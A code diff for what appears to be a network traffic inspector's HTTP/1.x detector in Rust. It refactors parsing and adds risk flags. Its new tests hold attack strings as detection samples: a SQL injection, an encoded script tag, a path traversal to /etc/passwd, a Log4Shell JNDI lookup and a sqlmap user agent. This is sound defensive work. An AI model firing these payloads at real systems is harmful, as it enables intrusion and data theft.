@@ -1,6 +1,13 @@
 //! HTTP/1.0 and 1.1 (RFC 9112): the first request of a flow and its response, headers only.
 
-use crate::facts::{Facts, HostnameSource};
+pub(super) mod message;
+mod risks;
+
+use self::message::{
+    Fields, METHODS, VERSION, after_header, authority, field, host_of, request_line, split_line, starts_like,
+    whole_header,
+};
+use crate::facts::HostnameSource;
 #[cfg(test)]
 use crate::protocol::{DST, SRC, Sample, Samples};
 use crate::protocol::{Findings, Look, Protocol, SHALLOW, Transport, Verdict, Want};
@@ -11,69 +18,30 @@ pub(crate) const PROTOCOL: Protocol = Protocol {
     category: "web",
     encrypted: false,
     over: &[(Transport::Tcp, &[b'A'..=b'Z', b'\r'..=b'\r', b'\n'..=b'\n'])],
-    ports: &[80, 3128, 8000, 8080, 8888],
+    ports: PORTS,
     bound: false,
     fields: &[],
     head: SHALLOW,
     inspect,
 };
 
-/// IANA's method registry, and what is seen beside it: UPnP, RPC over HTTP, BITS. Others are
-/// recognised too, once the whole request line is there.
-const METHODS: [&[u8]; 50] = [
-    b"ACL",
-    b"BASELINE-CONTROL",
-    b"BIND",
-    b"BITS_POST",
-    b"CCM_POST",
-    b"CHECKIN",
-    b"CHECKOUT",
-    b"CONNECT",
-    b"COPY",
-    b"DELETE",
-    b"GET",
-    b"HEAD",
-    b"LABEL",
-    b"LINK",
-    b"LOCK",
-    b"MERGE",
-    b"MKACTIVITY",
-    b"MKCALENDAR",
-    b"MKCOL",
-    b"MKREDIRECTREF",
-    b"MKWORKSPACE",
-    b"MOVE",
-    b"NOTIFY",
-    b"OPTIONS",
-    b"ORDERPATCH",
-    b"PATCH",
-    b"POLL",
-    b"POST",
-    b"PROPFIND",
-    b"PROPPATCH",
-    b"PURGE",
-    b"PUT",
-    b"QUERY",
-    b"REBIND",
-    b"REPORT",
-    b"RPC_IN_DATA",
-    b"RPC_OUT_DATA",
-    b"SEARCH",
-    b"SOURCE",
-    b"SSTP_DUPLEX_POST",
-    b"SUBSCRIBE",
-    b"TRACE",
-    b"UNBIND",
-    b"UNCHECKOUT",
-    b"UNLINK",
-    b"UNLOCK",
-    b"UNSUBSCRIBE",
-    b"UPDATE",
-    b"UPDATEREDIRECTREF",
-    b"VERSION-CONTROL",
-];
+/// Those of everything that looks like HTTP at first: whoever is at its port is asked before.
+pub(super) const PORTS: &[u16] = &[80, 3128, 8000, 8080, 8888];
 
-const VERSION: &[u8] = b"HTTP/1.";
+/// For protocols that carry HTTP, or are carried by it: `bytes` of this direction begin where it
+/// begins. `None` if they are not HTTP; else what can still be learnt.
+pub(super) fn inside(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Option<Want> {
+    match inspect(&Look { bytes, other: &[], ..*look }, findings) {
+        Verdict::No => None,
+        Verdict::NeedMore => Some(Want::Rest),
+        Verdict::Match { want, .. } => Some(want),
+    }
+}
+
+/// The same with a label of its own.
+pub(super) fn carrying(look: &Look<'_>, findings: &mut Findings, evidence: &'static str) -> Verdict {
+    inside(look, look.bytes, findings).map_or(Verdict::No, |want| Verdict::proven(evidence, want))
+}
 
 fn inspect(look: &Look<'_>, findings: &mut Findings) -> Verdict {
     // RFC 9112 s2.2: empty lines before a request are ignored.
@@ -86,21 +54,25 @@ fn inspect(look: &Look<'_>, findings: &mut Findings) -> Verdict {
     if !bytes.iter().take(3).all(u8::is_ascii_uppercase) {
         return Verdict::No;
     }
-    if starts_like(bytes, VERSION) {
-        response(look, bytes, &mut findings.facts)
-    } else {
-        request(look, bytes, &mut findings.facts)
-    }
+    if starts_like(bytes, VERSION) { response(look, bytes, findings) } else { request(look, bytes, findings) }
 }
 
-fn request(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
+fn request(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
+    const EVIDENCE: &str = "HTTP request line";
     let Some((line, headers)) = split_line(bytes) else {
-        return unfinished_request(look, bytes, facts);
+        return unfinished_request(look, bytes, findings);
     };
     let Some((method, uri)) = request_line(line) else { return Verdict::No };
     let Some(headers) = whole_header(headers, look.cut) else {
-        return Verdict::proven("HTTP request line", Want::Rest);
+        // Likely only: what its header says can make it another protocol.
+        return Verdict::likely(EVIDENCE, Want::Rest);
     };
+    let body = after_header(headers).unwrap_or_default();
+    if !look.cut && body.len() < body_wanted(headers) {
+        return Verdict::likely(EVIDENCE, Want::Rest);
+    }
+    risks::of_request(line, uri, headers, body, findings);
+    let facts = &mut findings.facts;
     let http = facts.http.get_or_insert_default();
     http.method = Some(lossy(method, NAME_MAX));
     http.uri = Some(lossy(uri, URI_MAX));
@@ -117,14 +89,36 @@ fn request(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
     // RFC 9112 s3.2.2, s3.2.3: the target of a request to a proxy names the host itself.
     let hostname = authority(method, uri).or(host).map(host_of).filter(|host| !host.is_empty());
     if let Some(hostname) = hostname {
-        facts.hostname = Some(lossy(hostname, NAME_MAX));
-        facts.hostname_source = Some(HostnameSource::HttpHost);
+        risks::of_name(hostname, findings);
+        findings.facts.hostname = Some(lossy(hostname, NAME_MAX));
+        findings.facts.hostname_source = Some(HostnameSource::HttpHost);
     }
-    Verdict::proven("HTTP request line", if answered { Want::Nothing } else { Want::Reply })
+    Verdict::proven(EVIDENCE, if answered { Want::Nothing } else { Want::Reply })
+}
+
+/// How many bytes of a request's body are waited for: forms, because of passwords in them, and
+/// what may be a call.
+fn body_wanted(headers: &[u8]) -> usize {
+    const MOST: usize = 2048;
+    let (mut len, mut wanted) = (0, false);
+    for (name, value) in Fields(headers) {
+        if name.eq_ignore_ascii_case(b"content-length") {
+            let digits = std::str::from_utf8(value.trim_ascii()).unwrap_or_default();
+            len = digits.parse::<usize>().unwrap_or_default();
+        } else if name.eq_ignore_ascii_case(b"content-type") {
+            let kind = value.trim_ascii().to_ascii_lowercase();
+            let kinds: [&[u8]; 4] =
+                [b"application/x-www-form", b"application/json", b"text/xml", b"application/soap"];
+            wanted = kinds.iter().any(|known| kind.starts_with(known));
+        } else if name.eq_ignore_ascii_case(b"expect") {
+            return 0;
+        }
+    }
+    if wanted { len.min(MOST) } else { 0 }
 }
 
 /// A request line whose end has not been seen.
-fn unfinished_request(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
+fn unfinished_request(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
     let begun = METHODS.iter().any(|method| match bytes.strip_prefix(*method) {
         Some(rest) => rest.first().is_none_or(|byte| *byte == b' '),
         None => method.starts_with(bytes),
@@ -138,7 +132,7 @@ fn unfinished_request(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdi
     let mut parts = bytes.splitn(2, |byte| *byte == b' ');
     match (parts.next(), parts.next()) {
         (Some(method), Some(uri)) if uri.starts_with(b"/") || uri.starts_with(b"http://") => {
-            let http = facts.http.get_or_insert_default();
+            let http = findings.facts.http.get_or_insert_default();
             http.method = Some(lossy(method, NAME_MAX));
             http.uri = Some(lossy(uri, URI_MAX));
             Verdict::likely("HTTP method and target, the rest of the line not seen", Want::Reply)
@@ -147,7 +141,7 @@ fn unfinished_request(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdi
     }
 }
 
-fn response(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
+fn response(look: &Look<'_>, bytes: &[u8], findings: &mut Findings) -> Verdict {
     const EVIDENCE: &str = "HTTP status line";
     let mut bytes = bytes;
     loop {
@@ -167,7 +161,7 @@ fn response(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
         let Some(headers) = split_line(bytes)
             .map_or_else(|| look.cut.then_some(&[][..]), |(_, headers)| whole_header(headers, look.cut))
         else {
-            return Verdict::proven(EVIDENCE, Want::Rest);
+            return Verdict::likely(EVIDENCE, Want::Rest);
         };
         // RFC 9110 s15.2: interim responses come before the one that counts, 101 is the last.
         if matches!(status, 100 | 102..=199)
@@ -179,7 +173,13 @@ fn response(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
             bytes = next;
             continue;
         }
-        let http = facts.http.get_or_insert_default();
+        let body = after_header(headers).unwrap_or_default();
+        let content = risks::Content::read(headers);
+        if status == 200 && body.len() < 4 && content.may_be_program() && !look.cut {
+            return Verdict::likely(EVIDENCE, Want::Rest);
+        }
+        risks::of_response(status, &content, body, findings);
+        let http = findings.facts.http.get_or_insert_default();
         http.status = Some(status);
         for (name, value) in Fields(headers) {
             if name.eq_ignore_ascii_case(b"server") {
@@ -191,104 +191,6 @@ fn response(look: &Look<'_>, bytes: &[u8], facts: &mut Facts) -> Verdict {
         let asked = http.method.is_some();
         return Verdict::proven(EVIDENCE, if asked { Want::Nothing } else { Want::Reply });
     }
-}
-
-/// Method and target of a line that ends in the version.
-fn request_line(line: &[u8]) -> Option<(&[u8], &[u8])> {
-    let (front, version) = line.split_at_checked(line.len().checked_sub(VERSION.len() + 1)?)?;
-    if !version.starts_with(VERSION) || !version.last().is_some_and(u8::is_ascii_digit) {
-        return None;
-    }
-    // Targets with spaces are not allowed, and exist: method up to the first, version after the last.
-    let front = front.strip_suffix(b" ")?;
-    let space = front.iter().position(|byte| *byte == b' ')?;
-    let (method, uri) = (front.get(..space)?, front.get(space + 1..)?);
-    let is_method = |byte: &u8| byte.is_ascii_uppercase() || matches!(byte, b'-' | b'_');
-    (!method.is_empty() && method.len() <= 24 && method.iter().all(is_method) && !uri.is_empty())
-        .then_some((method, uri))
-}
-
-/// The host in a request target, if that has one.
-fn authority<'a>(method: &[u8], uri: &'a [u8]) -> Option<&'a [u8]> {
-    if method == b"CONNECT" {
-        return Some(uri);
-    }
-    let scheme = uri.get(..7).filter(|scheme| scheme.eq_ignore_ascii_case(b"http://"))?;
-    uri.get(scheme.len()..)?.split(|byte| matches!(byte, b'/' | b'?')).next()
-}
-
-/// A Host field without the port; an IPv6 address without its brackets (RFC 3986 s3.2.2).
-fn host_of(authority: &[u8]) -> &[u8] {
-    let authority = authority.trim_ascii();
-    if let Some(rest) = authority.strip_prefix(b"[") {
-        return rest.split(|byte| *byte == b']').next().unwrap_or_default();
-    }
-    authority.split(|byte| *byte == b':').next().unwrap_or_default()
-}
-
-/// One of the two begins with the other.
-fn starts_like(bytes: &[u8], prefix: &[u8]) -> bool {
-    bytes.iter().zip(prefix).all(|(a, b)| a == b)
-}
-
-/// The first line without its end, and what follows. A bare LF ends it too (RFC 9112 s2.2).
-fn split_line(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
-    let end = bytes.iter().position(|byte| *byte == b'\n')?;
-    let line = bytes.get(..end)?;
-    Some((line.strip_suffix(b"\r").unwrap_or(line), bytes.get(end + 1..)?))
-}
-
-/// The fields, if the empty line after them was seen or will not come.
-fn whole_header(bytes: &[u8], cut: bool) -> Option<&[u8]> {
-    (cut || after_header(bytes).is_some()).then_some(bytes)
-}
-
-/// What follows the empty line that ends the fields.
-fn after_header(mut bytes: &[u8]) -> Option<&[u8]> {
-    loop {
-        let (line, rest) = split_line(bytes)?;
-        if line.is_empty() {
-            return Some(rest);
-        }
-        bytes = rest;
-    }
-}
-
-/// Name and raw value of each field up to the empty line.
-struct Fields<'a>(&'a [u8]);
-
-impl<'a> Iterator for Fields<'a> {
-    type Item = (&'a [u8], &'a [u8]);
-
-    fn next(&mut self) -> Option<Self::Item> {
-        loop {
-            let all = self.0;
-            let (line, mut rest) = split_line(all)?;
-            if line.is_empty() {
-                self.0 = &[];
-                return None;
-            }
-            // RFC 9112 s5.2: a line that begins with a blank continues the one before.
-            while matches!(rest.first(), Some(b' ' | b'\t')) {
-                rest = split_line(rest).map_or(&[][..], |(_, after)| after);
-            }
-            self.0 = rest;
-            let whole = all.get(..all.len() - rest.len()).unwrap_or(line);
-            if let Some(colon) = line.iter().position(|byte| *byte == b':') {
-                return Some((line.get(..colon)?.trim_ascii(), whole.get(colon + 1..)?));
-            }
-        }
-    }
-}
-
-/// A field's value, its folds made single spaces.
-fn field(value: &[u8], max: usize) -> Box<str> {
-    let value = value.trim_ascii();
-    if !value.contains(&b'\n') {
-        return lossy(value, max);
-    }
-    let lines: Vec<_> = value.split(|byte| *byte == b'\n').map(<[u8]>::trim_ascii).collect();
-    lossy(&lines.join(&b' '), max)
 }
 
 #[cfg(test)]
@@ -384,7 +286,8 @@ mod tests {
         ];
         for (request, host) in cases {
             let mut flow = flow();
-            assert_eq!((flow.src(request), flow.name()), (Progress::More, Some("http")));
+            assert_eq!(flow.src(request), Progress::More);
+            assert!(flow.name().is_some_and(|name| name.starts_with("http")));
             assert_eq!(flow.inspection.facts().hostname.as_deref(), host);
         }
     }
@@ -404,11 +307,60 @@ mod tests {
         assert_eq!(uri.map(|uri| uri.len()), Some(URI_MAX));
     }
 
+    fn risks_of(request: &[u8], response: &[u8]) -> Vec<&'static str> {
+        let mut flow = flow();
+        flow.src(request);
+        flow.dst(response);
+        flow.inspection.facts().risks.names().collect()
+    }
+
+    #[test]
+    fn what_is_worth_a_warning() {
+        const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nhi";
+        let cases: [(&[u8], &[&str]); 14] = [
+            (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dTpw\r\n\r\n", &["cleartext-credentials"]),
+            (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Digest username=u\r\n\r\n", &[]),
+            (b"POST /l HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 14\r\n\r\nuser=u&pwd=abc", &["cleartext-credentials"]),
+            (b"GET /?compwd=1&password= HTTP/1.1\r\nHost: a\r\n\r\n", &[]),
+            (b"GET / HTTP/1.1\r\nHost: 192.0.2.1:81\r\n\r\n", &["numeric-host"]),
+            (b"GET / HTTP/1.1\r\nHost: xn--bcher-kva.example\r\n\r\n", &["punycode"]),
+            (b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.8#stable\r\n\r\n", &["suspicious-user-agent"]),
+            (b"GET /?id=1%27%20UNION/**/SELECT%201,2 HTTP/1.1\r\nHost: a\r\n\r\n", &["sql-injection"]),
+            (b"GET /?q=student+union+selection HTTP/1.1\r\nHost: a\r\n\r\n", &[]),
+            (b"GET /?q=%253Cscript%253Ealert(1) HTTP/1.1\r\nHost: a\r\n\r\n", &["cross-site-scripting"]),
+            (b"GET /cgi-bin/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: a\r\n\r\n", &["remote-code"]),
+            (b"GET / HTTP/1.1\r\nHost: a\r\nX-Api: ${jndi:ldap://192.0.2.1/a}\r\n\r\n", &["log4shell"]),
+            (b"GET / HTTP/1.1\r\nAccept: */*\r\n\r\n", &["malformed"]),
+            (b"GET /../a?next=/b/../c HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n\r\n", &[]),
+        ];
+        for (request, risks) in cases {
+            assert_eq!(risks_of(request, OK), risks, "{}", request.escape_ascii());
+        }
+    }
+
+    #[test]
+    fn programs_are_noticed() {
+        const GET: &[u8] = b"GET /a HTTP/1.1\r\nHost: a\r\n\r\n";
+        for response in [
+            &b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n\x7fELF\x02\x01\x01"[..],
+            b"HTTP/1.1 200 OK\r\n\r\nMZ\x90\0\x03\0\0\0",
+            b"HTTP/1.1 200 OK\r\nContent-Type: application/x-msdownload\r\n\r\n",
+        ] {
+            assert_eq!(risks_of(GET, response), ["executable-download"]);
+        }
+        for response in [
+            &b"HTTP/1.1 404 No\r\nContent-Type: text/plain\r\n\r\n\x7fELF\x02\x01\x01"[..],
+            b"HTTP/1.1 200 OK\r\n\r\nMZ is a former country code",
+        ] {
+            assert!(risks_of(GET, response).is_empty());
+        }
+    }
+
     #[test]
     fn near_misses() {
         let lines: [&[u8]; 9] = [
             b"GET / HTTP/2.0\r\n\r\n",
-            b"INVITE sip:a@b SIP/2.0\r\n\r\n",
+            b"INVITE sip:a@b SIP/3.0\r\n\r\n",
             b"HTTP/2 200 OK\r\n\r\n",
             b"HTTP/1.1 2x0 OK\r\n\r\n",
             b"HTTP/1.1200 OK\r\n\r\n",
